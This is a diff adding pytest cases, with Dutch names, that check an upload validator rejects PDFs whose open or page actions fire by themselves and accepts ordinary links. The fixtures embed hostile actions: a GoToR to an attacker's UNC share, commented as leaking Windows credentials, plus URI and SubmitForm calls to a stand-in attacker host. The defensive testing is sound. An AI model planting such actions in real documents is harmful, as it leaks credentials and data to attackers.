@@ -660,3 +660,49 @@ def test_pdf_met_wachtwoord_wordt_geweigerd_zonder_wachtwoord_om_te_openen_niet(
 
     assert weigering(upload("verslag.pdf", met_wachtwoord)).code == "pdf_wachtwoord"
     assert valideer_upload(upload("verslag.pdf", alleen_rechten)).extensie == "pdf"
+
+
+@pytest.mark.parametrize(
+    ("soort", "extra"),
+    [
+        ("/GoToR", {"F": TextStringObject("\\\\aanvaller\\deel\\x.pdf")}),  # leaks Windows credentials
+        ("/URI", {"URI": TextStringObject("https://aanvaller.example/")}),  # opens a site by itself
+        ("/SubmitForm", {"F": TextStringObject("https://aanvaller.example/")}),
+    ],
+)
+def test_pdf_met_een_automatische_actie_bij_openen_wordt_geweigerd(soort, extra):
+    """Found from outside: /OpenAction with GoToR, URI or SubmitForm passed the check."""
+
+    def openen(schrijver):
+        schrijver.root_object[_naam("/OpenAction")] = _actie(soort, **extra)
+
+    assert weigering(upload("verslag.pdf", pdf_met(openen))).code == "pdf_actief"
+
+
+def test_pdf_met_een_automatische_actie_op_een_pagina_wordt_geweigerd():
+    def pagina_openen(schrijver):
+        aa = DictionaryObject(
+            {_naam("/O"): _actie("/URI", URI=TextStringObject("https://aanvaller.example/"))}
+        )
+        schrijver.pages[0][_naam("/AA")] = aa
+
+    assert weigering(upload("verslag.pdf", pdf_met(pagina_openen))).code == "pdf_actief"
+
+
+def test_pdf_met_een_gewone_link_naar_een_website_wordt_aanvaard():
+    """A link the reader clicks on is no automatic action: leaflets link to websites."""
+
+    def link(schrijver):
+        annotatie = DictionaryObject(
+            {
+                _naam("/Type"): _naam("/Annot"),
+                _naam("/Subtype"): _naam("/Link"),
+                _naam("/Rect"): ArrayObject(
+                    [NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]
+                ),
+                _naam("/A"): _actie("/URI", URI=TextStringObject("https://stad.gent/")),
+            }
+        )
+        schrijver.pages[0][_naam("/Annots")] = ArrayObject([schrijver._add_object(annotatie)])
+
+    assert valideer_upload(upload("folder.pdf", pdf_met(link))).extensie == "pdf"
